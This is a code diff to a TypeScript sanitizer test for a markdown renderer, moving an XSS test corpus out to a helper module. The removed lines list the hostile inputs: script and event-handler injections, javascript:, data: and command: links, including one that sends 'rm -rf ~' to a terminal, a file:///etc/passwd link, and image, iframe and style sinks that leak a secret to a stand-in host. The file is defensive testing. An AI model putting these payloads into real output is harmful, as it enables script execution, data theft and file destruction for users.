@@ -9,6 +9,7 @@ import { type AddressInfo } from 'node:net';
 import { JSDOM, VirtualConsole } from 'jsdom';
 import { renderAnswer } from '../../src/core/markdown/render';
 import { ANSWER_ATTRIBUTES, ANSWER_TAGS, SANITIZE_CONFIG } from '../../src/core/markdown/sanitizeConfig';
+import { ATTACKER, CORPUS } from './helpers/markdownCorpus';
 
 const window = new JSDOM('').window;
 const purify = createDOMPurify(window);
@@ -17,54 +18,6 @@ const purify = createDOMPurify(window);
 function attached(markdown: string): string {
   return purify.sanitize(renderAnswer(markdown).html, SANITIZE_CONFIG);
 }
-
-const ATTACKER = 'http://127.0.0.1:9/leak?code=SECRET';
-
-const CORPUS: Record<string, string> = {
-  'script tag': '<script>window.pwned = 1</script>',
-  'script split over lines': '<scr\nipt>window.pwned = 1</script>',
-  'img onerror': '<img src=x onerror="window.pwned = 1">',
-  'raw img to a remote URL': `<img src="${ATTACKER}">`,
-  'img srcset': `<img srcset="${ATTACKER} 1x">`,
-  'svg onload': '<svg onload="window.pwned = 1"><circle r="1"/></svg>',
-  'svg image href': `<svg><image href="${ATTACKER}"/></svg>`,
-  'picture source': `<picture><source srcset="${ATTACKER}"><img src="${ATTACKER}"></picture>`,
-  'iframe': `<iframe src="${ATTACKER}"></iframe>`,
-  'object and embed': `<object data="${ATTACKER}"></object><embed src="${ATTACKER}">`,
-  'style attribute with url()': `<div style="background:url(${ATTACKER})">x</div>`,
-  'style element with url()': `<style>body { background: url(${ATTACKER}) }</style>`,
-  'link stylesheet': `<link rel="stylesheet" href="${ATTACKER}">`,
-  'meta refresh': `<meta http-equiv="refresh" content="0;url=${ATTACKER}">`,
-  'base href': `<base href="${ATTACKER}">`,
-  'form action': `<form action="${ATTACKER}"><button>Go</button></form>`,
-  'anchor with javascript: href': '<a href="javascript:window.pwned=1">click</a>',
-  'anchor with onclick': '<a href="https://example.com" onclick="window.pwned=1">click</a>',
-  'mXSS through math/style': '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=1">',
-  'javascript: link': '[click](javascript:window.pwned=1)',
-  'javascript: link, mixed case and spaces': '[click](  JaVaScRiPt:window.pwned=1)',
-  'javascript: link in angle brackets': '[click](<javascript:window.pwned=1>)',
-  'javascript: link through an entity': '[click](&#x6A;avascript:window.pwned=1)',
-  'javascript: link with an encoded colon': '[click](javascript&#58;window.pwned=1)',
-  'javascript: autolink': '<javascript:window.pwned=1>',
-  'vbscript: link': '[click](vbscript:msgbox(1))',
-  'data: link': '[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)',
-  'data: image link': '[click](data:image/png;base64,iVBORw0KGgo=)',
-  'command: link': '[run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%20-rf%20~%22%7D)',
-  'command: autolink': '<command:workbench.action.openSettings>',
-  'file: link': '[passwords](file:///etc/passwd)',
-  'relative link': '[here](./secret.txt)',
-  'reference-style javascript: link': '[click][x]\n\n[x]: javascript:window.pwned=1',
-  'Markdown image to a remote URL': `![chart](${ATTACKER})`,
-  'reference-style image': `![chart][img]\n\n[img]: ${ATTACKER}`,
-  'image inside a link': `[![badge](${ATTACKER})](https://example.com)`,
-  'data: SVG image': '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
-  'link title breaking out of the attribute': '[x](https://example.com "t\\" onmouseover=\\"window.pwned=1")',
-  'tag characters spelling an attribute in a title': `[x](https://example.com "a${[...'" onmouseover="window.pwned=1'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('')}")`,
-  'HTML in inline code': '`<img src=x onerror="window.pwned=1">`',
-  'HTML in a fenced block': '```html\n<img src=x onerror="window.pwned=1">\n<script>window.pwned=1</script>\n```',
-  'HTML entities spelling a tag': '&lt;img src=x onerror="window.pwned=1"&gt;',
-  'double-encoded entities': '&amp;lt;script&amp;gt;window.pwned=1&amp;lt;/script&amp;gt;',
-};
 
 /** Each start tag of `html`, e.g. `<a class="pg-link" …>` (text never holds a raw `<`). */
 function tagsOf(html: string): string[] {
